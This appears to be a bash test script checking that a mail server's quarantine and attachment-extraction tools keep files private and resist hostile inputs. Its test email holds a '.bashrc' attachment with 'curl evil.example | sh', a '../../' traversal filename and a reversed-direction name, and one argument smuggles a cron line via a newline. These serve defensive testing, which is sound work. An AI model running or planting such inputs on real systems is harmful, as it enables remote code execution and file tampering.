#!/usr/bin/env bash
# The server's files are the service's: private whatever the caller's umask,
# never left to root by a tool root runs, refused to anyone else, and an
# export never writes over a file that is there or outside its folder.
set -u
bin=$(cd "$1" && pwd)
zulctl="$bin/zulctl"
root=$(mktemp -d)
monitor=
trap '[ -n "$monitor" ] && kill "$monitor" 2>/dev/null; wait 2>/dev/null; rm -rf "$root"' EXIT
source "$(dirname "$0")/checks.sh"
testfiles=/usr/share/clamav-testfiles

# Files and folders that others may read or the group may change.
too_open() { find "$1" \( -perm /o=rwx -o -perm /g=w \) ! -type l -printf '%m %p\n'; }

# 1. A whole mail's way through a server made and run with umask 000.
server="$root/open"
(
  umask 000
  export ZUL_NOTES_INI="$server/notes.ini"
  "$zulctl" init "$server" --admin postmaster@example.com >/dev/null
  "$zulctl" settings init --bases "$bin/demo-bases" >/dev/null
  cd "$server" && exec "$bin/nZulMailMonitor" > "$root/monitor.txt" 2>&1
) &
monitor=$!
export ZUL_NOTES_INI="$server/notes.ini"
for _ in $(seq 1 200); do "$zulctl" tasks 2>/dev/null | grep -q 'Idle task' && break; sleep 0.05; done
(umask 000 && "$zulctl" mail submit "$testfiles/clam.mail" >/dev/null)
for _ in $(seq 1 200); do
  (umask 000 && "$zulctl" mail route > "$root/route.txt" 2>&1)
  grep -q ' 0 still held' "$root/route.txt" && break
  sleep 0.05
done
check "quarantined" 0 "$zulctl" quarantine ls
contains "quarantined" "1 document(s)"
(umask 000 && "$zulctl" quarantine export 0x8f8 "$server/exported" >/dev/null)
"$zulctl" quit >/dev/null
wait "$monitor"
monitor=
out=$(too_open "$server")
[ -z "$out" ] && passed=$((passed + 1)) || { echo "FAIL readable by others under umask 000:"; echo "$out" | sed 's/^/    /'; failures=$((failures + 1)); }
[ -s "$server/data/mail.box" ] && [ -s "$server/data/zulquarantine.nsf" ] && [ -d "$server/run/mq" ] \
  && passed=$((passed + 1)) || { echo "FAIL the flow left no mail to look at"; failures=$((failures + 1)); }

# 2. Export and extract claim new names: an existing file, even one named by
# the sender (.bashrc), keeps its bytes; a planted link is not written
# through; a name with folders in it stays in the folder given.
printf 'mine\n' > "$server/exported/clam.exe.orig"
cp "$server/exported/clam.exe" "$root/first.exe"
printf 'keep me\n' > "$root/target"
ln -s "$root/target" "$server/exported/clam (1).exe"
check "export again" 0 "$zulctl" quarantine export 0x8f8 "$server/exported"
contains "export again" "$server/exported/clam (2).exe"
contains "export again" "(clam.exe exists there already)"
check "the first export kept" 0 cmp "$server/exported/clam.exe" "$root/first.exe"
check "the second is the program" 0 cmp "$server/exported/clam (2).exe" "$testfiles/clam.exe"
check "no write through a link" 0 grep -qx 'keep me' "$root/target"
cat > "$root/names.eml" <<EML
From: someone@example.com
To: anna@example.com
Subject: names
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

hello
--b
Content-Type: text/plain; name=".bashrc"
Content-Disposition: attachment; filename=".bashrc"

curl evil.example | sh
--b
Content-Type: text/plain
Content-Disposition: attachment; filename="../../escaped.txt"

out of the folder
--b
Content-Type: text/plain
Content-Disposition: attachment; filename="$(printf 'L%.0s' $(seq 1 300)).txt"

a name longer than a file system takes
--b
Content-Type: text/plain
Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEtxt.exe

a name that shows the wrong way round
--b
Content-Type: text/plain
Content-Disposition: attachment; filename="last.txt"

the last one
--b--
EML
"$zulctl" ini set ZulMailMonitorLogLevel 3 >/dev/null
check "submit names" 0 "$zulctl" mail submit "$root/names.eml"
id=$(sed -n 's/.*request [0-9a-f]*|\([0-9a-f]*\)|.*/\1/p' <<<"$out")
mkdir -p "$root/home"
printf 'alias ll=ls\n' > "$root/home/.bashrc"
check "extract names" 0 "$zulctl" db extract mail.box "0x$id" --converted "$root/home"
check "the .bashrc there kept" 0 grep -qx 'alias ll=ls' "$root/home/.bashrc"
check "the sender's .bashrc beside it" 0 grep -q 'curl evil' "$root/home/.bashrc (1)"
[ ! -e "$root/escaped.txt" ] && [ ! -e "$server/escaped.txt" ] && passed=$((passed + 1)) \
  || { echo "FAIL a name climbed out of the folder"; failures=$((failures + 1)); }
check "a long name is cut, its extension kept" 0 grep -q 'longer than a file system' "$root/home/$(printf 'L%.0s' $(seq 1 196)).txt"
check "no direction control in a name" 0 grep -q 'wrong way round' "$root/home/invoice_txt.exe"
check "the attachments after them are there" 0 grep -q 'the last one' "$root/home/last.txt"

# 3. Root works as the server's owner; anyone else is refused by name.
if [ "$(id -u)" -eq 0 ] && command -v runuser >/dev/null; then
  chmod 755 "$root"
  mkdir -p "$root/bin"
  cp "$zulctl" "$bin/zulsubmit" "$root/bin/"
  chmod 755 "$root/bin" "$root/bin/"*
  owned="$root/owned"
  mkdir "$owned" && chown nobody:nogroup "$owned"
  check "root inits into a folder the service owns" 0 "$root/bin/zulctl" init "$owned"
  check "root submits" 0 "$root/bin/zulctl" "=$owned/notes.ini" mail submit "$testfiles/clam.mail"
  out=$(find "$owned" ! -user nobody -printf '%u %p\n')
  [ -z "$out" ] && passed=$((passed + 1)) || { echo "FAIL left to another user:"; echo "$out" | sed 's/^/    /'; failures=$((failures + 1)); }
  check "the owner goes on" 0 runuser -u nobody -- "$root/bin/zulctl" "=$owned/notes.ini" mail submit - \
    --from a@example.com --to b@example.com < "$testfiles/clam.mail"
  check "another user is refused" 1 runuser -u daemon -- "$root/bin/zulctl" "=$owned/notes.ini" mail held
  contains "another user is refused" "belongs to nobody"
  check "the hook refused keeps the mail with the MTA" 75 runuser -u daemon -- "$root/bin/zulsubmit" \
    "=$owned/notes.ini" --from a@example.com --to b@example.com - < "$testfiles/clam.mail"
  contains "the hook refused keeps the mail with the MTA" "belongs to nobody"
  stranger="$root/stranger"
  cp -a "$owned" "$stranger" && chown -R 4242 "$stranger"
  check "an owner the system does not know is not taken" 1 "$root/bin/zulctl" "=$stranger/notes.ini" mail held
  contains "an owner the system does not know is not taken" "cannot take the user uid 4242"

  # Root signs bases and fetches them as the user they belong to; nothing
  # planted in their folders is written through.
  bases="$owned/program/bases"
  mkdir -p "$bases" && cp "$bin/demo-bases/demo.hdb" "$bin/demo-bases/master.xml" "$bases/" && chown -R nobody:nogroup "$bases"
  chmod 644 "$bases/master.xml"
  check "root signs" 0 "$root/bin/zulctl" bases sign "$bases/master.xml"
  check "the index stays the service's, as readable as it was" 0 test "$(stat -c %U:%a "$bases/master.xml")" = nobody:644
  printf 'root only\n' > "$root/secret" && chmod 600 "$root/secret"
  mkdir -p "$owned/log" && chown nobody "$owned/log"
  ln -s "$root/secret" "$owned/log/fetch.log"
  mkdir -p "$root/mirror" && cp "$bases/"* "$root/mirror/"
  printf 'Bases=%s\nMirror=%s\n' "$bases" "$root/mirror" > "$root/fetch.conf"
  (cd "$root" && "$bin/basefetch" -u -P $'PRODUCT\n* * * * * root id' -tf "$owned/log/fetch.log" -c "$root/fetch.conf" >/dev/null)
  check "no log line through a link" 0 grep -qx 'root only' "$root/secret"
  check "nothing else in it" 0 test "$(wc -l < "$root/secret")" = 1
  ln -sf /dev/zero "$root/mirror/master.xml"
  check "a mirror index that is a link is not read" 3 timeout 20 "$bin/basefetch" -u -P X -c "$root/fetch.conf"
else
  echo "not root or no runuser: the owner checks are skipped"
fi

echo "$passed passed, $failures failed"
[ "$failures" -eq 0 ]
